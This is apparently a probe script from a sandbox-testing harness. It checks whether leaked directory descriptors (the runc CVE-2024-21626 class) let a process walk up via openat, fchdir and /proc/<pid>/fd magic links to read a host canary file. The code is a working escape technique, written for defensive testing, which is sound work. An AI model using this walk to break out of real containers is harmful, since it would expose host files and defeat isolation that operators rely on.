"""Probe fs_leaked_dirfd: reach the host through a directory descriptor the sandbox leaked.

The class of the runc descriptor leak (CVE-2024-21626): a directory descriptor opened outside
the sandbox and inherited by the payload is a working directory or an `openat` base on the
host's tree, whatever the sandbox's mounts say.

Escape attempts:
- ``path:canary``: the canary file by its host path (targets["canary"]), as an unconfined
  process reaches it: the control leg's escape, and on a sandbox only a note (reading host
  paths is fs_read_secrets' claim, not this class);
- for every directory descriptor in /proc/self/fd: ``dirfd:<n>`` opens the canary name
  relative to it, then walks ``openat(fd, "..")`` to the top of the tree it belongs to, trying
  the canary's host path relative to each level; ``fchdir:<n>`` does the same as a working
  directory (``fchdir`` + ``chdir("..")``). Every directory reached is reported by its
  (device, inode) in facts["reached"], for the host to compare with its own directories;
- ``procfd:<pid>:<n>``: the same openat walk from ``/proc/<pid>/fd/<n>`` of every other
  process it can see (the sandbox's own helpers: a shim or init that inherited a host
  directory and closed it only for its child still holds it, and the magic link reopens it).

``scan:descriptors`` sums the descriptor routes up: refused when none reached the canary
(also when there was no directory descriptor to walk at all).

In-sandbox control ``control:openat``: the payload opens its own workspace as a descriptor
and reads the harness's control file through ``openat`` on it, so a refusal above is not a
broken ``openat``.

Stdlib only, Python 3.8+, never imported by the host; exits 0 and prints one JSON line.
"""

import errno
import json
import os
import stat
import sys

PROBE = "fs_leaked_dirfd"
START_MARKER = "SANDBOX-ATTEST-START"
# How far up a descriptor's tree the walk goes: deeper than any real host path.
MAX_LEVELS = 40
READ_LIMIT = 4096
# Other processes' directory descriptors walked at most: on an open host there are many, and
# the walk of one is enough to show the route.
MAX_OTHER_FDS = 64


def attempt(what, role, outcome, err=None, status=None, detail=""):
    return {"what": what, "role": role, "outcome": outcome, "errno": err, "status": status,
            "detail": detail}


def errno_name(exc):
    code = getattr(exc, "errno", None)
    return errno.errorcode.get(code) if isinstance(code, int) else None


def read_at(base_fd, rel):
    """The first bytes of `rel` opened relative to `base_fd` (None: the cwd), as text."""
    flags = os.O_RDONLY | os.O_NONBLOCK | getattr(os, "O_CLOEXEC", 0)
    fd = os.open(rel, flags) if base_fd is None else os.open(rel, flags, dir_fd=base_fd)
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            raise OSError(errno.EINVAL, "not a regular file")
        return os.read(fd, READ_LIMIT).decode("utf-8", "replace").strip()
    finally:
        os.close(fd)


def directory_fds():
    """The descriptors of this process that are directories, by number."""
    found = []
    for name in sorted(os.listdir("/proc/self/fd"), key=lambda n: int(n) if n.isdigit() else -1):
        if not name.isdigit():
            continue
        try:
            if stat.S_ISDIR(os.fstat(int(name)).st_mode):
                found.append(int(name))
        except OSError:
            continue  # the listing's own descriptor, already closed
    return found


def other_directory_fds():
    """(pid, fd) of directory descriptors of the other processes /proc lets us read."""
    found, me = [], os.getpid()
    try:
        pids = sorted(int(n) for n in os.listdir("/proc") if n.isdigit())
    except OSError:
        return found
    for pid in pids:
        if pid == me:
            continue
        try:
            names = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            continue  # another user's process, or gone
        for name in sorted(names, key=lambda n: int(n) if n.isdigit() else -1):
            try:
                if stat.S_ISDIR(os.stat("/proc/%d/fd/%s" % (pid, name)).st_mode):
                    found.append((pid, int(name)))
            except (OSError, ValueError):
                continue
    return found


def via_proc(what, pid, fd, canary, reached):
    """Reopen another process's directory descriptor through its magic link, then walk."""
    flags = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0) | getattr(os, "O_CLOEXEC", 0)
    try:
        mine = os.open("/proc/%d/fd/%d" % (pid, fd), flags)
    except OSError as exc:
        return attempt(what, "escape", "refused", errno_name(exc), None, repr(exc))
    try:
        return via_fd(what, walk_openat, mine, canary, reached)
    finally:
        os.close(mine)


def candidates(canary):
    """Names to try at one level: the canary's name, its dir + name, its host path."""
    parts = canary.strip("/").split("/")
    names = [parts[-1], "/".join(parts[-2:]), "/".join(parts)]
    return list(dict.fromkeys(n for n in names if n))


def try_level(level_fd, canary, reached, found):
    st = os.fstat(level_fd)
    reached.append([st.st_dev, st.st_ino])
    for rel in candidates(canary):
        try:
            found.append(read_at(level_fd, rel))
            return True
        except OSError:
            continue
    return False


def walk_openat(fd, canary, reached):
    """openat(fd, name) at fd and at each `..` above it; the canary's text, or None."""
    found = []
    flags = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0) | getattr(os, "O_CLOEXEC", 0)
    level = os.open(".", flags, dir_fd=fd)
    try:
        for _ in range(MAX_LEVELS):
            if try_level(level, canary, reached, found):
                return found[0]
            here = os.fstat(level)
            up = os.open("..", flags, dir_fd=level)
            there = os.fstat(up)
            os.close(level)
            level = up
            if (here.st_dev, here.st_ino) == (there.st_dev, there.st_ino):
                break  # the top of this descriptor's tree
        return None
    finally:
        os.close(level)


def walk_fchdir(fd, canary, reached):
    """fchdir(fd), then chdir("..") level by level; the canary's text, or None."""
    back = os.open(".", os.O_RDONLY | getattr(os, "O_DIRECTORY", 0))
    try:
        os.fchdir(fd)
        for _ in range(MAX_LEVELS):
            here = os.stat(".")
            reached.append([here.st_dev, here.st_ino])
            for rel in candidates(canary):
                try:
                    return read_at(None, rel)
                except OSError:
                    continue
            os.chdir("..")
            there = os.stat(".")
            if (here.st_dev, here.st_ino) == (there.st_dev, there.st_ino):
                break
        return None
    finally:
        os.fchdir(back)
        os.close(back)


def via_fd(what, walk, fd, canary, reached):
    try:
        text = walk(fd, canary, reached)
    except OSError as exc:
        return attempt(what, "escape", "refused", errno_name(exc), None, repr(exc))
    if text is None:
        return attempt(what, "escape", "refused", "ENOENT", None,
                       "walked to the top of fd %d's tree; the canary was not there" % fd)
    return attempt(what, "escape", "succeeded", None, None, "read: " + text[:80])


def run(task, out):
    targets = task["targets"]
    canary = targets["canary"]
    try:
        out["facts"]["mntns"] = os.readlink("/proc/self/ns/mnt")
    except OSError as exc:
        out["facts"]["mntns"] = None
        out["facts"]["mntns_error"] = errno_name(exc)
    # The control first: openat on a descriptor of the payload's own workspace.
    ws = None
    try:
        ws = os.open(task["workspace"], os.O_RDONLY | getattr(os, "O_DIRECTORY", 0))
        text = read_at(ws, targets["control_name"])
        out["attempts"].append(attempt("control:openat", "control", "succeeded", None, None,
                                       "read: " + text[:80]))
    except OSError as exc:
        out["attempts"].append(attempt("control:openat", "control", "refused", errno_name(exc),
                                       None, repr(exc)))
    finally:
        if ws is not None:
            os.close(ws)
    try:
        out["attempts"].append(attempt("path:canary", "escape", "succeeded", None, None,
                                       "read: " + read_at(None, canary)[:80]))
    except OSError as exc:
        out["attempts"].append(attempt("path:canary", "escape", "refused", errno_name(exc),
                                       None, repr(exc)))
    fds = directory_fds()
    out["facts"]["directory_fds"] = fds
    reached = []
    for fd in fds:
        out["attempts"].append(via_fd("dirfd:%d" % fd, walk_openat, fd, canary, reached))
        out["attempts"].append(via_fd("fchdir:%d" % fd, walk_fchdir, fd, canary, reached))
    others = other_directory_fds()[:MAX_OTHER_FDS]
    out["facts"]["other_directory_fds"] = [list(o) for o in others]
    for pid, fd in others:
        out["attempts"].append(via_proc("procfd:%d:%d" % (pid, fd), pid, fd, canary, reached))
    out["facts"]["reached"] = [list(r) for r in {tuple(r) for r in reached}]
    # One verdict-bearing line whatever was found: a sandbox that leaks no descriptor has no
    # dirfd:/fchdir:/procfd: attempts at all, and "nothing to walk" is its refusal.
    routes = [a for a in out["attempts"] if a["what"].split(":")[0] in ("dirfd", "fchdir", "procfd")]
    won = [a["what"] for a in routes if a["outcome"] == "succeeded"]
    if won:
        out["attempts"].append(attempt("scan:descriptors", "escape", "succeeded", None, None,
                                       "the canary was reached via " + ",".join(won)))
    else:
        out["attempts"].append(attempt(
            "scan:descriptors", "escape", "refused", "ENOENT", None,
            "%d own and %d other directory descriptors walked; none reached the canary"
            % (len(fds), len(others))))


def main(argv):
    task, nonce = {}, ""
    try:
        with open(argv[1]) as fh:
            task = json.load(fh)
        nonce = str(task.get("nonce", ""))
    except Exception as exc:
        task = {"_error": repr(exc)}
    print(START_MARKER + " " + nonce, flush=True)
    out = {"probe": PROBE, "nonce": nonce, "attempts": [], "facts": {}}
    try:
        if "_error" in task:
            raise RuntimeError("cannot read the task: " + task["_error"])
        run(task, out)
    except Exception as exc:
        out["attempts"].append(attempt("probe", "escape", "error", errno_name(exc), None,
                                       repr(exc)))
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
